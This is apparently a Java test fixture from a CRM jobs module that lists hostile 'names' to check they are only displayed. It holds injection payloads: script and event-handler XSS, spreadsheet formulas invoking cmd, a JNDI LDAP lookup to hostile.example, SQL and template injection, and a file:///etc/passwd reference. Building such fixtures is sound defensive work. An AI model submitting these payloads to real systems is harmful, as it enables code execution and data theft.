package org.kvartal.jobs;

import java.util.List;

/** Names that people, importers and attackers have entered into CRMs. None may do anything but be shown. */
final class HostileNames {
    static final String SCRIPT = "<script>document.title='hostile'</script>";
    static final String FORMULA = "=cmd|'/C calc'!A0";
    static final String LINES = "first\nsecond\r\nthird\u2028fourth\ttab";
    static final String PERSIAN = "شرکت پخش نمونه، می\u200cشود ۱۲۳";

    /** Of another encoding, and too long for a name: both are quarantined. */
    static final String FOREIGN = "next\u0085";

    static final String ENDLESS = "Endless-name-" + "without-any-space-".repeat(600);

    private static final List<String> NAMES = List.of(
            SCRIPT,
            "\"'><img src=http://hostile.example/x onerror=document.title='hostile'>&lt;b&gt;",
            "</title></style></text></svg><svg onload=document.title='hostile'>",
            "</script><!--\"]}';//",
            FORMULA,
            "=HYPERLINK(\"http://hostile.example/\",\"x\")",
            "@SUM(1+1)*cmd",
            "+1-1",
            "-2+3",
            "bell\u0007 escape\u001b[31m \ufffe",
            FOREIGN,
            LINES,
            "invoice\u202Efdp.exe \u2066isolated",
            "a\u200bb\u2060c\ufeffd\u00ade",
            "{0} {1, plural, one {#} other {#}} {{7*7}} {% x %} ${jndi:ldap://hostile.example/a} %s %n",
            "'{0' {9,number} { <%= 7*7 %> #{7*7}",
            "'; drop table opportunities; -- \\ \" '' $1 \\u003cb\\u003e",
            "[x](javascript:alert(5)) `code` | ![i](http://hostile.example/i) *b* <!-- -->",
            "file:///etc/passwd http://hostile.example/ ../../x javascript:alert(6)",
            PERSIAN,
            "Long-name-" + "without-any-space-".repeat(50),
            ENDLESS);

    static final int COUNT = NAMES.size();

    private HostileNames() {}

    /** A name that no other role and number has: it ends in a mark, because its beginning is what attacks. */
    static String of(String role, int number) {
        return NAMES.get(number % COUNT) + mark(role, number);
    }

    static String mark(String role, int number) {
        return " ~" + role + number + "~";
    }

    /** As an id, which holds no blanks around it. */
    static String id(String role, int number) {
        return role + number + "'\"><b>{0}=1;--";
    }
}
